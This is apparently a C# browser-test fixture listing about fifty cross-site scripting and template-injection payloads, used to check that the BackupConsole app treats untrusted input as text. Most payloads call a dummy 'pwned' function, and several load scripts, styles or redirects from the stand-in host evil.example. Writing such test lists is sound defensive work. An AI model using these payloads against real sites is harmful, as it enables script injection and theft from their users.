namespace BackupConsole.BrowserTests.Setup;

/// <summary>
/// Text that would run, or make an element, wherever a page took it for markup. Each would call <c>pwned</c>, which does not exist, or
/// load something from elsewhere.
/// </summary>
internal static class Payloads
{
    public static readonly string[] All =
    [
        "<script>pwned(1)</script>",
        "<ScRiPt>pwned(1)</sCrIpT>",
        "</script><script>pwned(1)</script>",
        "<script src=//evil.example/x.js></script>",
        "<script>pwned(1)//",
        "<<script>pwned(1);//<</script>",
        "<img src=x onerror=pwned(1)>",
        "<img src=x onerror=\"pwned(1)\"/>",
        "<img/src=`x`onerror=pwned(1)>",
        "<img src=\"x` `<script>pwned(1)</script>\"` `>",
        "<img src=https://evil.example/pixel.png>",
        "<svg onload=pwned(1)>",
        "<svg><script>pwned(1)</script></svg>",
        "<svg><animate onbegin=pwned(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=pwned(1)>",
        "<body onload=pwned(1)>",
        "<iframe src=javascript:pwned(1)></iframe>",
        "<iframe srcdoc='<script>parent.pwned(1)</script>'></iframe>",
        "<object data=javascript:pwned(1)></object>",
        "<embed src=https://evil.example/x.swf>",
        "<a href=javascript:pwned(1)>here</a>",
        "<a href=\"java\tscript:pwned(1)\">here</a>",
        "[here](javascript:pwned(1))",
        "javascript:pwned(1)",
        "<form action=https://evil.example/><input name=q><button>Go</button></form>",
        "<input autofocus onfocus=pwned(1)>",
        "<details open ontoggle=pwned(1)>",
        "<video><source onerror=pwned(1)></video>",
        "<marquee onstart=pwned(1)>x</marquee>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<base href=https://evil.example/>",
        "<template><script>pwned(1)</script></template>",
        "<!--<img src=--><img src=x onerror=pwned(1)//>",
        "<noscript><p title=\"</noscript><img src=x onerror=pwned(1)>\">",
        "\"><img src=x onerror=pwned(1)>",
        "'><svg onload=pwned(1)>",
        "\" onmouseover=pwned(1) autofocus onfocus=pwned(1) x=\"",
        "' onfocus='pwned(1)' autofocus='",
        "&lt;img src=x onerror=pwned(1)&gt;",
        "&#60;img src=x onerror=pwned(1)&#62;",
        "\\u003cimg src=x onerror=pwned(1)\\u003e",
        "%3Cimg%20src=x%20onerror=pwned(1)%3E",
        "</title><img src=x onerror=pwned(1)>",
        "</textarea></select></option><img src=x onerror=pwned(1)>",
        "{{constructor.constructor('pwned(1)')()}}",
        "${pwned(1)}",
        "@(pwned(1))",
        "<!--Blazor:{\"type\":\"server\",\"descriptor\":\"x\"}-->",
    ];
}
